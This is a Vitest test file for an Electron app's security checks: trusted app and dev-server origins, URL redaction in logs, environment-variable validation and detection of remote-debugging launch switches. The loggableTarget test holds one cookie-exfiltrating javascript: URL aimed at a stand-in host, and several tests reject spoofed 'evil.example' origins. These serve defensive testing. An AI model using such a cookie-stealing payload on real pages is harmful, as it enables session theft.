// What counts as "the app itself": the app:// origin, plus the loopback dev server only in
// an unpackaged app, and what a log line may say about a URL.
import { describe, expect, it } from 'vitest';
import { APP_ENTRY_URL, APP_ORIGIN, isAppUrl, loggableTarget, originOf, trustedOrigins } from '../../../electron/main/appOrigin';
import { debuggerSwitchesIn, devServerUrlFrom, userDataOverrideFrom } from '../../../electron/main/devLaunch';
import { DESKTOP_APP_ORIGIN, isLaptopPageOrigin } from '../../../shared/team/origin';

describe('originOf / isAppUrl', () => {
  it('gives app:// a real origin even though Node calls non-special origins "null"', () => {
    expect(originOf(APP_ENTRY_URL)).toBe('app://workbench');
    // The team server's CORS answers the app's pages by this origin: the two must not drift.
    expect(DESKTOP_APP_ORIGIN).toBe(APP_ORIGIN);
    expect(isLaptopPageOrigin(APP_ORIGIN)).toBe(true);
    // Browser mode's pages on any loopback serve.mjs listens on; nothing else.
    for (const page of ['http://127.0.0.1:4173', 'http://localhost:4173', 'http://[::1]:4173']) expect(isLaptopPageOrigin(page)).toBe(true);
    for (const page of ['https://evil.example', 'http://127.0.0.1.evil.example', 'null', 'http://[::2]:4173']) expect(isLaptopPageOrigin(page)).toBe(false);
    expect(originOf('http://localhost:5173/src/main.tsx')).toBe('http://localhost:5173');
    expect(originOf('data:text/html,<h1>x</h1>')).toBeNull();
    expect(originOf('javascript:alert(1)')).toBeNull();
    expect(originOf('::not a url::')).toBeNull();
  });

  it('accepts only exact app origins', () => {
    const origins = trustedOrigins(null);
    expect(origins).toEqual([APP_ORIGIN]);
    expect(isAppUrl('app://workbench/index.html#/orders', origins)).toBe(true);
    expect(isAppUrl('app://workbench.evil/index.html', origins)).toBe(false);
    expect(isAppUrl('app://other/index.html', origins)).toBe(false);
    expect(isAppUrl('https://workbench/index.html', origins)).toBe(false);
    expect(isAppUrl('http://localhost:5173/', origins)).toBe(false);
    expect(isAppUrl('about:blank', origins)).toBe(false);
  });

  it('adds the dev server origin, port included, only when one is given', () => {
    const origins = trustedOrigins(new URL('http://localhost:5173/'));
    expect(isAppUrl('http://localhost:5173/index.html', origins)).toBe(true);
    expect(isAppUrl('http://localhost:5174/index.html', origins)).toBe(false);
  });
});

describe('loggableTarget', () => {
  it('keeps origins and schemes, drops paths and queries that may hold customer data', () => {
    expect(loggableTarget('https://example.com/orders?email=jane@example.com')).toBe('https://example.com');
    expect(loggableTarget('javascript:fetch("https://x/?"+document.cookie)')).toBe('javascript: URL');
    expect(loggableTarget('mailto:jane@example.com')).toBe('mailto: URL');
    expect(loggableTarget('%%%')).toBe('an unparseable URL');
  });
});

describe('devServerUrlFrom', () => {
  const env = (url: string): NodeJS.ProcessEnv => ({ ELECTRON_RENDERER_URL: url });

  it('trusts a loopback http dev server in an unpackaged app', () => {
    expect(devServerUrlFrom(env('http://localhost:5173'), false)?.origin).toBe('http://localhost:5173');
    expect(devServerUrlFrom(env('http://127.0.0.1:5173/'), false)?.origin).toBe('http://127.0.0.1:5173');
  });

  it('ignores the variable in a packaged app, for remote hosts, other schemes and credentials', () => {
    expect(devServerUrlFrom(env('http://localhost:5173'), true)).toBeNull();
    expect(devServerUrlFrom(env('http://evil.example:5173'), false)).toBeNull();
    expect(devServerUrlFrom(env('https://localhost:5173'), false)).toBeNull();
    expect(devServerUrlFrom(env('file:///tmp/index.html'), false)).toBeNull();
    expect(devServerUrlFrom(env('http://user:pw@localhost:5173'), false)).toBeNull();
    expect(devServerUrlFrom(env('http://localhost.evil.example:5173'), false)).toBeNull();
    expect(devServerUrlFrom({}, false)).toBeNull();
  });
});

describe('userDataOverrideFrom', () => {
  it('honours an absolute test profile folder only in an unpackaged app', () => {
    expect(userDataOverrideFrom({ FRAUD_WORKBENCH_USER_DATA: '/tmp/fw-test' }, false)).toBe('/tmp/fw-test');
    expect(userDataOverrideFrom({ FRAUD_WORKBENCH_USER_DATA: '/tmp/fw-test' }, true)).toBeNull();
    expect(userDataOverrideFrom({ FRAUD_WORKBENCH_USER_DATA: 'relative/dir' }, false)).toBeNull();
    expect(userDataOverrideFrom({}, false)).toBeNull();
  });
});

describe('debuggerSwitchesIn', () => {
  const launchedWith = (...switches: string[]) => ({ hasSwitch: (name: string) => switches.includes(name) });

  // The release fuses turn off --inspect and NODE_OPTIONS, but no fuse covers Chromium's remote
  // debugging: a packaged app started with it would let any local process drive its window.
  it('names the remote debugging switches a packaged app was started with', () => {
    expect(debuggerSwitchesIn(launchedWith('remote-debugging-port'), true)).toEqual(['remote-debugging-port']);
    expect(debuggerSwitchesIn(launchedWith('remote-debugging-pipe', 'remote-debugging-port'), true)).toEqual([
      'remote-debugging-port',
      'remote-debugging-pipe',
    ]);
  });

  it('names none for an ordinary start, or while developing', () => {
    expect(debuggerSwitchesIn(launchedWith(), true)).toEqual([]);
    expect(debuggerSwitchesIn(launchedWith('lang'), true)).toEqual([]);
    expect(debuggerSwitchesIn(launchedWith('remote-debugging-port'), false)).toEqual([]);
  });
});
